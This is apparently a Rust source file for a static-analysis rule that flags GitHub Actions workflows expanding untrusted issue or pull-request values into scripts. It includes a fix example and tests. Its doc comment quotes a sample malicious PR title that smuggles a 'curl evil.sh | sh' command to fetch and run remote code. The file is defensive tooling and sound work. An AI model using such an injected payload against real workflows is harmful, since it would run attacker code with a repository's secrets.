//! ## What it does
//! Flags `${{ … }}` expressions that put a value an outside contributor controls — an issue or
//! pull request title or body, a comment, a branch name, a commit message — straight into a
//! `run:` script or an `actions/github-script` `script:`.
//!
//! ## Why is this bad?
//! GitHub substitutes the expression into the script text before the shell runs it. A pull
//! request titled `"; curl evil.sh | sh; echo "` becomes part of the command, and runs with the
//! job's token and secrets. This is the most common way public repositories are compromised
//! through Actions.
//!
//! ## Example
//! ```yaml
//! - run: echo "Title: ${{ github.event.pull_request.title }}"
//! ```
//!
//! ## Fix
//! Pass the value through an environment variable and quote it in the script:
//! ```yaml
//! - run: echo "Title: $TITLE"
//!   env:
//!     TITLE: ${{ github.event.pull_request.title }}
//! ```

use shipshape_core::Severity;

use super::{expressions, is_untrusted, GithubActionsRule, WorkflowDoc};
use crate::rule::{Diagnostic, Domain, RuleMeta};

pub struct TemplateInjection;

pub static META: RuleMeta = RuleMeta {
    id: "SS-GHA-001",
    slug: "template-injection",
    domain: Domain::GithubActions,
    severity: Severity::Error,
    title: "Untrusted input expanded into a script",
    equivalents: &["zizmor:template-injection", "actionlint:expression"],
};

impl GithubActionsRule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, doc: &WorkflowDoc, out: &mut Vec<Diagnostic>) {
        for (_, step) in doc.steps() {
            let script = step.run.or_else(|| {
                step.uses_action("actions/github-script")
                    .then(|| step.input("script"))
                    .flatten()
            });
            let Some(script) = script else { continue };
            for e in expressions(doc.source, script) {
                for context in e.contexts().iter().filter(|c| is_untrusted(c)) {
                    out.push(Diagnostic::new(
                        context.span,
                        format!(
                            "`{}` is controlled by whoever opens the issue or pull request; \
                             it is pasted into the script before it runs — pass it through `env:`",
                            context.path
                        ),
                    ));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::findings;
    use super::*;

    #[test]
    fn flags_untrusted_contexts_in_run_and_github_script() {
        let src = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.head_ref }}')\n";
        let f = findings(&TemplateInjection, src);
        assert_eq!(f.len(), 2, "{f:?}");
        assert_eq!(f[0].0, "github.event.issue.title");
        assert_eq!(f[1].0, "github.head_ref");
    }

    #[test]
    fn leaves_env_and_trusted_contexts_alone() {
        let src = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$T\" ${{ github.sha }}\n        env:\n          T: ${{ github.event.issue.title }}\n";
        assert!(findings(&TemplateInjection, src).is_empty());
    }
}
